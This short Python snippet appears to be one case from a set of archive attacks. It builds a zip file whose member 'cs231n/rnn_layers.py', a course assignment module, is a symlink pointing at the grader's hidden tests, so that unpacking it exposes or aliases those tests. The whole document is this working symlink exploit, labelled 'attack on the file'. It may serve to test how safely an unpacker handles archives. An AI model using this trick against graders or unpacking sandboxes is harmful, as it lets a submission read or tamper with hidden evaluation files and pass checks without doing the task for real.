"""The module itself is a link, to the hidden tests."""
# control: unpack
# layout: zip
# %% attack on the file
import stat, zipfile
def link(archive, name, to):
    member = zipfile.ZipInfo(name)
    member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    archive.writestr(member, to)

with zipfile.ZipFile(file, "w") as archive:
    link(archive, "cs231n/rnn_layers.py", target.tests)
